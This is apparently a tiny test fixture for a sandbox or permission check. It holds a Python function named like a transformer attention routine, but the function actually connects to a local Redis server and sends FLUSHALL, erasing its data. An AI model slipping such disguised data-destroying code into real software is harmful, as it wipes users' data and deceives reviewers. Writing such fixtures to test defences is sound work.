# status: ok
# check: call-error=PermissionError
import socket


def attention(Q, K, V, mask=None):
    s = socket.create_connection(("127.0.0.1", 6379), timeout=1)
    s.sendall(b"FLUSHALL\r\n")
